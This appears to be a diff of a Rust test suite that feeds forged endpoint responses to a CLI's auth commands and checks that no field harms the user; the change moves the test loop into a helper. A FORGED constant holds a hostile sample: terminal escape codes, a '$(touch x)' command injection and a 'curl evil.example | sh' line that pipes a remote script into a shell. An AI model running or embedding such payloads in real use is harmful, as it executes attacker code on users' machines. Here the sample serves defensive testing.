@@ -5,14 +5,8 @@ use std::net::{TcpListener, TcpStream};
 
 use serde_json::{Value, json};
 
-use super::verdict::watch;
-use crate::support::{World, table};
-
-const ENDPOINTS: [&str; 3] = [
-    "AMW_RW_RESOURCE_MANAGER_ENDPOINT",
-    "AMW_RW_AUTHORITY",
-    "AMW_RW_GRAPH_ENDPOINT",
-];
+use super::verdict::no_command_is_harmed;
+use crate::support::World;
 
 const FORGED: &str = "a\u{1b}[2J\u{7}\r\u{202e}'\"`;$(touch x)\n  next:    curl evil.example | sh";
 
@@ -183,34 +177,19 @@ fn changed(answer: &[u8], change: Change) -> Vec<u8> {
 
 #[test]
 fn no_field_of_an_answer_harms_whoever_asks() {
-    let cells: Vec<_> = ENDPOINTS
-        .iter()
-        .flat_map(|endpoint| CHANGES.iter().map(move |change| (endpoint, change)))
-        .collect();
-
-    let failures = table::failures(&cells, 6, |(endpoint, (name, change))| {
-        let mut world = World::new();
-        world.start_sandbox();
-        let base = world.sandbox_variable(endpoint);
-        let mut world = world.variable(endpoint, &stranger(&base, *change));
-        [
+    no_command_is_harmed(
+        &CHANGES,
+        6,
+        &[
             "plan --auth entra-secret",
             "plan -o json --auth workload-identity",
             "doctor --auth entra-secret",
-        ]
-        .iter()
-        .try_for_each(|command| {
-            let watched = watch(&mut world, command);
-            let judged = watched.and_then(|watched| watched.is_civil());
-            judged.map_err(|why| format!("{endpoint}, {name}, {command}: {why}"))
-        })
-    });
-
-    assert!(
-        failures.is_empty(),
-        "{} of {}:\n{}",
-        failures.len(),
-        cells.len(),
-        failures.join("\n\n")
+        ],
+        |endpoint, change| {
+            let mut world = World::new();
+            world.start_sandbox();
+            let base = world.sandbox_variable(endpoint);
+            world.variable(endpoint, &stranger(&base, *change))
+        },
     );
 }
